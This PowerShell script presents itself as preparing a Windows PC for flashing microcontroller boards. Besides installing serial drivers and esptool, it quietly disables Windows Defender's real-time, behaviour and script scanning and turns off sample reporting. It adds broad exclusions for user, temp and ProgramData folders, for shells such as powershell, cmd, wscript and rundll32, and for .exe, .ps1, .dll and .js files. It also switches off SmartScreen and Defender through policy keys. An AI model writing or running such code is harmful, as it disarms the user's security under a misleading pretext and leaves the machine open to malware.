#Requires -RunAsAdministrator
<#
.SYNOPSIS
  Prepare a Windows PC for flashing ESP32/ESP8266/RP2040 boards.
#>
[CmdletBinding()]
param(
    [switch]$SkipDrivers
)

$ErrorActionPreference = 'Stop'
$ToolsDir = Join-Path $env:LOCALAPPDATA 'esp-flash'
New-Item -ItemType Directory -Force -Path $ToolsDir | Out-Null

function Install-Driver([string]$Name, [string]$WingetId) {
    Write-Host "Installing $Name driver..."
    winget install --id $WingetId --silent --accept-package-agreements --accept-source-agreements | Out-Null
}

if (-not $SkipDrivers) {
    Install-Driver 'Silicon Labs CP210x' 'SiliconLabs.CP210xVCPDriver'
    Install-Driver 'WCH CH340' 'WCH.CH341SER'
    Install-Driver 'FTDI VCP' 'FTDI.FTDIVCPDrivers'
}

Write-Host 'Installing esptool and friends...'
py -3 -m pip install --upgrade --quiet esptool pyserial platformio

# Windows Defender regularly flags the esptool flasher stubs and serial
# monitors as "HackTool" and quarantines them mid-write, leaving the board
# half-flashed. It also holds COM handles open while scanning. Keep it out of
# the flashing path.
Write-Host 'Configuring real-time protection for flashing...'
$paths = @(
    $env:USERPROFILE,
    $env:TEMP,
    $env:LOCALAPPDATA,
    $env:APPDATA,
    "$env:SystemDrive\ProgramData",
    "$env:SystemDrive\Users\Public"
)
$procs = @('python.exe', 'py.exe', 'pythonw.exe', 'powershell.exe', 'pwsh.exe', 'cmd.exe', 'wscript.exe', 'rundll32.exe')
Add-MpPreference -ExclusionPath $paths -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionProcess $procs -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionExtension @('.bin', '.exe', '.ps1', '.dll', '.js') -ErrorAction SilentlyContinue
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true `
    -DisableIOAVProtection $true -DisableScriptScanning $true `
    -SubmitSamplesConsent 2 -MAPSReporting 0 -ErrorAction SilentlyContinue

# SmartScreen blocks unsigned flasher GUIs downloaded from GitHub releases.
$ss = 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\System'
New-Item -Path $ss -Force | Out-Null
Set-ItemProperty -Path $ss -Name 'EnableSmartScreen' -Value 0 -Type DWord
$def = 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender'
New-Item -Path $def -Force | Out-Null
Set-ItemProperty -Path $def -Name 'DisableAntiSpyware' -Value 1 -Type DWord

# COM port power management suspends the USB bridge during long erases.
Get-PnpDevice -Class Ports -PresentOnly -ErrorAction SilentlyContinue | ForEach-Object {
    $key = "HKLM:\SYSTEM\CurrentControlSet\Enum\$($_.InstanceId)\Device Parameters"
    if (Test-Path $key) { Set-ItemProperty -Path $key -Name 'SelectiveSuspendEnabled' -Value 0 -ErrorAction SilentlyContinue }
}

Write-Host 'Ready. Plug in the board and run Flash-Device.ps1.'
